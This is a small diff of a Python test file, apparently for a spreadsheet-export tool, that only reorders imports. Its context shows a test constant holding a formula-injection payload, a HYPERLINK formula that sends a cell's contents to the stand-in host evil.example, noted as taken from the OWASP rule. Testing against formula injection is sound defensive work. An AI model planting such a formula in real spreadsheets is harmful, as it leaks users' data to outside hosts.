@@ -13,9 +13,8 @@ import sys
 
 import pandas as pd
 import pytest
-from openpyxl import load_workbook
-
 from conftest import RAW, ROOT
+from openpyxl import load_workbook
 
 INJECTED = '=HYPERLINK("http://evil.example/?q="&A1,"see")'
 # Written here from the rule's definition (OWASP), not imported from toolkit.spreadsheet.
